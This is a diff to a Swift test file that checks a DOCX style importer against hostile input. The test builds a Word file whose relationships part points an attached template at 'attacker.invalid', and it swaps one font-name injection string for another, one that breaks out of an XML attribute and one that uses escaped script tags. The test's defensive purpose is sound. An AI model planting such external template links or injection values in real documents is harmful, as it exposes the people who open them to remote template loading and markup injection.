@@ -84,7 +84,7 @@ struct WordStylesTests {
             <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>
             """.utf8)
         let styles = try OrganisationDOCXStyles(file: HostileStyles.write(Self.word([("word/_rels/settings.xml.rels", rels)],
-                                                                                  styles: Self.styles(font: "Evil\"/><w:b/>", colour: "red"))))
+                                                                                  styles: Self.styles(font: "Evil&lt;script&gt;", colour: "red"))))
         #expect(styles.look.bodyFont == "Arial")
         #expect(styles.look.headingColour == DOCXLook().headingColour)
         #expect(styles.notes.contains { $0.contains("1 link to outside the file") })
